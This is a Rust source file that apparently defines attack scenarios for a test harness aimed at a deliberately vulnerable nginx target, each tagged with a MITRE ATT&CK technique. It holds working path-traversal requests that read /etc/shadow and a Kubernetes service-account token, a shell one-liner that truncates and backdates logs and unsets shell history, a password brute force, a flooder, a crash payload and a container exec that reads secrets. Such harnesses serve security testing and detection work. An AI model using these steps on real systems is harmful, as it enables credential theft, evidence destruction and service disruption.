//! Attacks on nginx.
//!
//! In: a target that is one. Out: scenarios. Never: another server's.

use super::moves::{FETCH, LOOK_AROUND, SECRETS, dropped};
use crate::attacks::{
    Ready, Scenario,
    attacker::{base64, http},
    target::TOKEN_TEXT,
};
use crate::servers::Nginx;
use anyhow::ensure;
use std::{thread, time::Duration};

const OPEN: &str = "command in a page's name (two-argument open in nginx's Perl handler)";

const REQUESTS: &str = "ordinary HTTP requests";

const EXEC: &str = "the runtime's exec, as by a stolen kubectl";

/// Nothing was here.
const TAMPER: &str = "cd /var/log/nginx; wc -l access.log; head -n 20 access.log >/tmp/.a; cat /tmp/.a >access.log
: >error.log; touch -d '3 days ago' access.log error.log; rm -f /tmp/.a; ls -l; unset HISTFILE; echo cleaned; true";

/// Its scenarios.
pub(super) const ALL: &[Scenario] = &[
    Scenario {
        name: "shell",
        server: "nginx",
        technique: "T1190",
        entry: OPEN,
        what: "a shell out of a worker looks around",
        services: &[],
        act: |t| t.run(LOOK_AROUND),
        proof: "uid=33(www-data)",
    },
    Scenario {
        name: "path-traversal",
        server: "nginx",
        technique: "T1552.001",
        entry: "file in a page's name (../../…)",
        what: "a worker itself reads the service-account token and 60 other files; no process starts",
        services: &[],
        act: |t| {
            let files = ["etc/passwd", "etc/shadow", "proc/self/environ", "proc/self/maps", "root/.bash_history", "srv/htpasswd"];
            for file in files.iter().cycle().take(60) {
                t.get(&format!("/page?name=..%2F..%2F{file}"), "")?;
            }
            t.get("/page?name=..%2F..%2Fvar/run/secrets/kubernetes.io/serviceaccount/token", "")
        },
        proof: TOKEN_TEXT,
    },
    Scenario {
        name: "flood",
        server: "nginx",
        technique: "T1498.001",
        entry: OPEN,
        what: "fetches a flooder: 20,000 datagrams and 500 connections, to loopback",
        services: &[(FETCH, Ready::Program("flood"))],
        act: |t| t.run(dropped!("20000 500")),
        proof: "flooded with many",
    },
    Scenario {
        name: "log-tampering",
        server: "nginx",
        technique: "T1070.002",
        entry: OPEN,
        what: "cuts the server's logs and sets their times back",
        services: &[],
        act: |t| t.run(TAMPER),
        proof: "cleaned",
    },
    Scenario {
        name: "brute-force",
        server: "nginx",
        technique: "T1110.001",
        entry: REQUESTS,
        what: "tries 400 passwords of the staff's area, each on a connection of its own",
        services: &[],
        act: |t| {
            for n in 0..400 {
                let password = base64(format!("staff:password{n}").as_bytes());
                let answer = t.get("/admin/orders.html", &format!("Authorization: Basic {password}\r\n"))?;
                ensure!(answer.contains("401 Unauthorized"), "the server let a wrong password in: {answer}");
            }
            Ok("400 refused".to_owned())
        },
        proof: "400 refused",
    },
    Scenario {
        name: "crash-loop",
        server: "nginx",
        technique: "T1499.004",
        entry: REQUESTS,
        what: "eight carts with a pointer into nowhere, at which a worker crashes, and is started again",
        services: &[],
        act: |t| {
            let mut crashes = 0;
            for _ in 0..8 {
                let answer = http(&t.network, Nginx::PORT, "POST", "/cart?format=p", "", "AAAAAAAA");
                crashes += u32::from(answer.is_ok_and(|text| text.is_empty()));
                thread::sleep(Duration::from_millis(300));
            }
            Ok(format!("{crashes} crashes"))
        },
        proof: "8 crashes",
    },
    Scenario {
        name: "exec",
        server: "nginx",
        technique: "T1609",
        entry: EXEC,
        what: "runs a shell in the container that reads the service-account token",
        services: &[],
        act: |t| {
            let out = t.server.exec(&["bash", "-c", &format!("{LOOK_AROUND}\n{SECRETS}")])?;
            Ok(String::from_utf8_lossy(&out.stdout).into_owned())
        },
        proof: TOKEN_TEXT,
    },
];
